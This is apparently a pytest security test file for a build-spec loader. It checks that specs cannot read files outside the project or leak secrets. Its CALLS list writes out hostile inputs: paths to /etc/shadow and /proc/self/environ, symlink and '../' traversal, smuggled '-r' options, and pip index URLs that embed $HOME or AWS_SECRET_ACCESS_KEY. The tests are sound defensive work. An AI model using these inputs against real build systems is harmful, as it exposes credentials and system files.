"""Specs of somebody else: what they may read of the machine, and send to whom."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from grammar import evaluate as loader
from grammar.environment import Environment
from grammar.errors import SpecError


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A project beside a directory with secrets, which links of the project lead to."""
    directory, secrets = tmp_path / "project", tmp_path / "secrets"
    directory.mkdir()
    secrets.mkdir()
    for name in ("token", "requirements.txt", "env.yml", "pyproject.toml", "uv.lock", "x-1-py3-none-any.whl"):
        (secrets / name).write_text("hvs.CAESIJ1token\n")
    (directory / "link").symlink_to("../secrets/token")
    (directory / "requirements-link.txt").symlink_to(secrets / "requirements.txt")
    (directory / "out").symlink_to(secrets)
    (directory / "loop").symlink_to("loop")
    os.mkfifo(directory / "pipe")
    (directory / "good.txt").write_text("idna==3.7\n")
    (directory / "leads-out.txt").write_text("-r ../secrets/requirements.txt\n")
    (directory / "constrained.txt").write_text("-c ../secrets/requirements.txt\n")
    (directory / "wheel.txt").write_text("../secrets/x-1-py3-none-any.whl\n")
    return directory


def load(project: Path, call: str, allowed: tuple[Path, ...] = ()) -> Environment:
    spec = project / "build.envd"
    spec.write_text(f"def build():\n    base(language='python3')\n    {call}\n")
    return loader.load(spec, allowed=allowed)


CALLS = [
    "install.python_packages(requirements='/etc/shadow')",
    "install.python_packages(requirements='../secrets/token')",
    "install.python_packages(requirements='link')",
    "install.python_packages(requirements='requirements-link.txt')",
    "install.python_packages(requirements='out/requirements.txt')",
    "install.python_packages(requirements='out/../../secrets/token')",
    "install.python_packages(requirements='leads-out.txt')",
    "install.python_packages(requirements='constrained.txt')",
    "install.python_packages(requirements='wheel.txt')",
    "install.python_packages(requirements='/proc/self/environ')",
    "install.python_packages(requirements='/dev/stdin')",
    "install.python_packages(requirements='pipe')",
    "install.python_packages(requirements='loop')",
    "install.python_packages(requirements='a\\0b')",
    "install.python_packages(['-r ../secrets/token'])",
    "install.python_packages(['-r/etc/shadow'])",
    "install.python_packages(['../secrets/x-1-py3-none-any.whl'])",
    "install.python_packages(local_wheels=['../secrets/x-1-py3-none-any.whl'])",
    "install.python_packages(pyproject='../secrets/pyproject.toml')",
    "install.python_packages(pylock='out/uv.lock')",
    "install.python_packages(uv_lock='out/uv.lock')",
    "install.conda_packages(env_file='../secrets/env.yml')",
    "install.conda_packages(env_file='/etc/shadow')",
    "install.conda_packages(env_file='pipe')",
    "config.apt_source('deb http://h/d s main', key='/etc/shadow')",
    "config.apt_source('deb http://h/d s main', key='../secrets/token')",
    "config.apt_source('deb http://h/d s main', key='link')",
    "config.pip_index('http://h/$HOME/simple')",
    "config.pip_index('http://h/${AWS_SECRET_ACCESS_KEY}/simple')",
    "config.pip_index('http://h/simple', extra_url='http://h/$PATH/simple')",
    "install.python_packages(['--index-url http://h/$HOME/simple', 'idna'])",
    "install.python_packages(['--extra-index-url http://h/${HOME}/simple'])",
    "install.python_packages(['--find-links http://h/$HOME/'])",
]


@pytest.mark.parametrize("call", CALLS)
def test_a_spec_reads_nothing_of_elsewhere(call: str, project: Path) -> None:
    with pytest.raises(SpecError) as caught:
        load(project, call)
    text = str(caught.value)
    assert "hvs." not in text
    assert "root:" not in text
    assert text.count("error:") == 1


def test_what_is_allowed_by_name_is_read(project: Path) -> None:
    (project.parent / "secrets/requirements.txt").write_text("idna==3.7\n")
    call = "install.python_packages(requirements='../secrets/requirements.txt')"
    found = load(project, call, (project.parent / "secrets",))
    assert [r.text for r in found.python_packages] == ["idna==3.7"]
    assert load(project, "install.python_packages(requirements='good.txt')").python_packages
